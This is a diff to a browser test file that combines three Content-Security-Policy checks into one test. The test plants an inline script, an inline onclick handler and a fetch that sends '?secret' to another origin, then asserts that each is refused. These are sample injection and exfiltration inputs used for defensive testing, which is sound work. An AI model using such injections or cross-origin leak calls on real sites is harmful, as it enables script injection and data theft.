@@ -13,36 +13,32 @@ async function plant(page: Page, seen: Watch, act: () => void): Promise<string[]
 const hasRun = (page: Page) => page.evaluate(() => 'planted' in window);
 
 test(
-  'an inline script that is not named does not run',
+  'no script that is not named runs, no handler in markup, and nothing is sent to another origin',
   { tag: '@engine' },
   async ({ page, seen }) => {
-    const refused = await plant(page, seen, () => {
+    const script = await plant(page, seen, () => {
       const script = document.createElement('script');
       script.textContent = 'window.planted = true';
       document.body.append(script);
     });
-    expect(refused).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
+    expect(script).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
     expect(await hasRun(page)).toBe(false);
+
+    const handler = await plant(page, seen, () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.planted = true');
+      button.click();
+    });
+    expect(handler).toEqual([expect.stringMatching(/^script-src-attr refuses inline/)]);
+    expect(await hasRun(page)).toBe(false);
+
+    const request = await plant(page, seen, () => {
+      void fetch('https://example.org/?secret').catch(() => undefined);
+    });
+    expect(request).toEqual([expect.stringMatching(/^connect-src refuses https:\/\/example\.org/)]);
+    expect(seen.foreign.filter((url) => url.includes('example.org'))).toEqual([]);
   },
 );
-
-test('nor does an event handler in markup', { tag: '@engine' }, async ({ page, seen }) => {
-  const refused = await plant(page, seen, () => {
-    const button = document.createElement('button');
-    button.setAttribute('onclick', 'window.planted = true');
-    button.click();
-  });
-  expect(refused).toEqual([expect.stringMatching(/^script-src-attr refuses inline/)]);
-  expect(await hasRun(page)).toBe(false);
-});
-
-test('nothing is sent to another origin', { tag: '@engine' }, async ({ page, seen }) => {
-  const refused = await plant(page, seen, () => {
-    void fetch('https://example.org/?secret').catch(() => undefined);
-  });
-  expect(refused).toEqual([expect.stringMatching(/^connect-src refuses https:\/\/example\.org/)]);
-  expect(seen.foreign.filter((url) => url.includes('example.org'))).toEqual([]);
-});
 
 test('a stylesheet of another origin is not asked for', async ({ page, seen }) => {
   const refused = await plant(page, seen, () => {
